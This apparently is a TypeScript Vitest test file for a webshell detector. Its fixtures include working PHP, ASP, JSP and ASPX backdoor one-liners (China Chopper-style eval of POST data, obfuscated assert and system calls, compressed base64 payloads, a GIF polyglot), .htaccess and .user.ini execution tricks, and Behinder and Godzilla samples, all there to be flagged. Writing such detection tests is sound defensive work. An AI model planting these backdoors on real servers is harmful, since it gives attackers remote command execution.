import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { FileInfo } from '../detector.ts';
import { languageOf, scanWebshell, signalsFor, wantsWebshell } from './webshell.detector.ts';

const file = (path: string, size = 1000, webRoot: string | null = '/var/www/html'): FileInfo => ({
  path,
  size,
  mode: 0o100644,
  uid: 33,
  mtimeMs: 0,
  webRoot,
});
const scan = (path: string, text: string, firstLine = 1) => scanWebshell(text, file(path), firstLine);
const gz = (code: string) => deflateRawSync(Buffer.from(code)).toString('base64');

describe('webshell detector: backdoors are found, with their family', () => {
  it.each([
    ['chopper PHP', '/var/www/html/x.php', `<?php @eval($_POST['pass']);?>`, 'china-chopper'],
    ['chopper ASP', '/var/www/html/x.asp', `<%eval request("k")%>`, 'china-chopper'],
    [
      'chopper ASPX',
      '/var/www/html/x.aspx',
      `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`,
      'china-chopper',
    ],
    ['variable function', '/var/www/html/a.php', `<?php $_GET['a']($_POST['b']);`, 'china-chopper'],
    ['spliced assert', '/var/www/html/a.php', `<?php $f = 'as'.'se'.'rt'; $f($_REQUEST['x']);`, 'webshell'],
    [
      'chr() chain',
      '/var/www/html/a.php',
      `<?php $q = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $q(@$_POST['a']);`,
      'webshell',
    ],
    [
      'hex escapes',
      '/var/www/html/a.php',
      `<?php $f="\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_GET['c']);`,
      'webshell',
    ],
    [
      'payload in gzinflate(base64)',
      '/var/www/html/a.php',
      `<?php eval(gzinflate(base64_decode('${gz('system($_GET["c"]);')}')));`,
      'webshell',
    ],
    [
      'AntSword decoder',
      '/var/www/html/a.php',
      `<?php @eval(base64_decode($_POST['_0x3f2a1']));`,
      'antsword',
    ],
    [
      'preg_replace /e',
      '/var/www/html/a.php',
      `<?php @preg_replace("/[x]/e", $_POST['e'], "x");`,
      'webshell',
    ],
    [
      'callback from request',
      '/var/www/html/a.php',
      `<?php call_user_func($_GET['f'], $_POST['x']);`,
      'webshell',
    ],
    ['array_map assert', '/var/www/html/a.php', `<?php array_map('assert', array($_POST['x']));`, 'webshell'],
    ['extract then call', '/var/www/html/a.php', `<?php extract($_REQUEST); @$a($b);`, 'webshell'],
    ['include of the body', '/var/www/html/a.php', `<?php include('php://input');`, 'webshell'],
    ['$$ superglobal', '/var/www/html/a.php', `<?php $a = '_PO'.'ST'; $b = $$a; eval($b['x']);`, 'webshell'],
    [
      'tainted property',
      '/var/www/html/a.php',
      `<?php class K { public $c; function __destruct() { eval($this->c); } } $k = new K(); $k->c = $_POST['x'];`,
      'webshell',
    ],
    [
      'JSP command',
      '/var/www/html/a.jsp',
      `<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>`,
      'jsp-cmd',
    ],
    [
      'ASP WScript',
      '/var/www/html/a.asp',
      `<% Set o = Server.CreateObject("WScript.Shell")\nc = Request("c")\nSet e = o.Exec("cmd.exe /c " & c) %>`,
      'webshell',
    ],
    [
      'image in uploads',
      '/var/www/html/uploads/a.gif',
      `GIF89a\x00\x01<?php @eval($_POST[1]); ?>`,
      'china-chopper',
    ],
    [
      'htaccess maps jpg to PHP',
      '/var/www/html/uploads/.htaccess',
      `AddType application/x-httpd-php .jpg`,
      'webshell',
    ],
    [
      'user.ini prepends an image',
      '/var/www/html/.user.ini',
      `auto_prepend_file=/var/www/html/uploads/1.gif`,
      'webshell',
    ],
  ])('%s', (_name, path, text, family) => {
    const found = scan(path, text);
    expect(found).toHaveLength(1);
    expect(found[0]!.rule).toBe(family);
    expect(found[0]!.score).toBeGreaterThanOrEqual(0.7);
    expect(found[0]!.reasons.length).toBeGreaterThan(0);
  });

  it('recognises Behinder and Godzilla by structure', () => {
    const behinder = `<?php session_start(); $key="e45e329feb5d925b"; $_SESSION['k']=$key; $post=file_get_contents("php://input");
      for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1&15]; }
      $post=openssl_decrypt($post, "AES128", $key); $arr=explode('|',$post); $params=$arr[1];
      class C{public function __invoke($p) {eval($p."");}} @call_user_func(new C(),$params);`;
    expect(scan('/var/www/html/b.php', behinder)[0]?.rule).toBe('behinder');
    const godzilla = `<?php function encode($D,$K){ for($i=0;$i<strlen($D);$i++){ $c=$K[$i+1&15]; $D[$i]=$D[$i]^$c; } return $D; }
      $pass='pass'; $payloadName='payload'; $key='3c6e0b8a9c15224a';
      if (isset($_POST[$pass])){ $data=encode(base64_decode($_POST[$pass]),$key);
        if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); eval($payload);
          echo substr(md5($pass.$key),0,16); echo substr(md5($pass.$key),16); } }`;
    expect(scan('/var/www/html/g.php', godzilla)[0]?.rule).toBe('godzilla');
  });

  it('reports the line of the strongest signal, offset by the chunk', () => {
    const text = `<?php\n// header\n\n@eval($_POST['x']);\n`;
    expect(scan('/var/www/html/x.php', text)[0]?.line).toBe(4);
    expect(scan('/var/www/html/x.php', text, 101)[0]?.line).toBe(104);
  });

  it('never carries a payload blob or a literal password in the excerpt', () => {
    const blob = gz(`${'/* pad */'.repeat(80)} system($_GET['c']);`);
    const [d] = scan(
      '/var/www/html/x.php',
      `<?php $pass = 'hunter2secret'; eval(gzinflate(base64_decode('${blob}')));`,
    );
    expect(d?.excerpt).not.toContain(blob);
    expect(d?.excerpt).not.toContain('hunter2secret');
  });
});

describe('webshell detector: legitimate code is left alone', () => {
  it.each([
    [
      'Laravel controller',
      `<?php class UserController { public function store(Request $request) { $name = $request->input('name'); return view('x', ['n' => e($name)]); } public function __call($m, $p) { return call_user_func_array([$this->svc, $m], $p); } }`,
    ],
    [
      'template engine eval',
      `<?php class T { public function display($content, $vars = []) { extract($vars, EXTR_OVERWRITE); eval('?>' . $content); } }`,
    ],
    [
      'router with array callable',
      `<?php $page = $_GET['page'] ?? 'home'; [$c, $a] = $routes[$page]; echo call_user_func_array([$controller, $a], $params); $controller->$a();`,
    ],
    [
      'backup with escaped argument',
      `<?php $db = preg_replace('/[^a-z]/', '', $_POST['db']); system('mysqldump ' . escapeshellarg($db));`,
    ],
    [
      'deploy webhook',
      `<?php $p = file_get_contents('php://input'); $out = shell_exec('cd /var/www && git pull 2>&1'); echo $out;`,
    ],
    [
      'AES API callback',
      `<?php $raw = file_get_contents('php://input'); $b = json_decode($raw, true); $plain = openssl_decrypt(base64_decode($b['data']), 'aes-256-cbc', $key, OPENSSL_RAW_DATA, $iv);`,
    ],
    [
      'validated upload',
      `<?php $ext = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); move_uploaded_file($_FILES['f']['tmp_name'], UPLOAD_DIR . '/' . bin2hex(random_bytes(8)) . '.' . $ext);`,
    ],
    [
      'article quoting a shell',
      `<article><pre><code>&lt;?php @eval($_POST['cmd']);?&gt;</code></pre></article>`,
    ],
    [
      'data URI logo',
      `<?php $logo = 'data:image/png;base64,iVBORw0KGgo${'A'.repeat(900)}'; ?><img src="<?= $logo ?>">`,
    ],
  ])('%s', (_name, text) => {
    expect(scan('/var/www/html/app/x.php', text)).toEqual([]);
  });

  it('a real image without code is clean', () => {
    expect(
      scan('/var/www/html/uploads/a.png', '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<?xpacket begin?>'),
    ).toEqual([]);
  });

  it('a request value used only as the key of a literal allow-list carries no taint', () => {
    const router = `<?php
$routes = ['home' => 'pages/home.php', 'about' => 'pages/about.php'];
$handlers = array('json' => 'json_encode', 'csv' => 'implode');
$page = $_GET['page'] ?? 'home';
$fmt = $handlers[$_GET['fmt'] ?? 'json'] ?? 'json_encode';
require __DIR__ . '/' . $routes[$page];
echo call_user_func($fmt, ['ok' => true]);`;
    expect(signalsFor(router, '/var/www/html/index.php')).toEqual([]);
    // The same shape is a backdoor when the table holds a dangerous name, or when the table is filled
    // from the request.
    const risky = router.replace("'csv' => 'implode'", "'csv' => 'system'");
    expect(scan('/var/www/html/index.php', risky).length).toBe(1);
    const filled = `${router}\n$handlers['x'] = $_POST['f'];`;
    expect(signalsFor(filled, '/var/www/html/index.php').map((s) => s.id)).toContain('callback-input');
  });

  it('one weak signal is not enough', () => {
    const weak = signalsFor(`<?php eval($code);`, '/var/www/html/a.php');
    expect(weak.length).toBeGreaterThan(0);
    expect(scan('/var/www/html/a.php', `<?php eval($code);`)).toEqual([]);
  });
});

describe('wants', () => {
  it('takes scripts anywhere, images only under web roots, and configs', () => {
    expect(languageOf('/var/www/html/a.PHP')).toBe('php');
    expect(languageOf('/var/www/html/a.php.jpg')).toBe('php');
    expect(languageOf('/var/www/html/.htaccess')).toBe('htaccess');
    expect(wantsWebshell(file('/tmp/x.php', 10, null), Buffer.from(''))).toBe(true);
    expect(wantsWebshell(file('/var/www/html/a.gif'), Buffer.from('GIF89a'))).toBe(true);
    expect(wantsWebshell(file('/home/u/a.gif', 10, null), Buffer.from('GIF89a'))).toBe(false);
    expect(wantsWebshell(file('/var/www/html/big.jpg', 50 * 1024 * 1024), Buffer.from('\xff\xd8'))).toBe(
      false,
    );
    expect(
      wantsWebshell(file('/var/www/html/big.jpg', 50 * 1024 * 1024), Buffer.from('\xff\xd8<?php ')),
    ).toBe(true);
    expect(wantsWebshell(file('/var/www/html/readme.txt'), Buffer.from('hello'))).toBe(false);
    expect(wantsWebshell(file('/var/www/html/noext'), Buffer.from('<?php echo 1;'))).toBe(true);
  });
});

describe('hostile input', () => {
  // Generous bounds: a quadratic scan would take minutes of CPU on these (they take about a second).
  it.each([
    ['assignments without semicolons', `<?php ${'$a='.repeat(250_000)}`],
    ['unclosed eval(', `<?php ${'eval('.repeat(200_000)}`],
    ['unclosed callbacks', `<?php ${'call_user_func('.repeat(70_000)}`],
    ['one huge escaped string', `<?php $a = "${'\\x41'.repeat(250_000)}";`],
  ])('%s: finishes quickly', (_name, text) => {
    // CPU time, not wall time: a loaded machine must not fail a linear scan.
    const started = process.cpuUsage();
    scan('/var/www/html/x.php', text);
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(5000);
  });
});
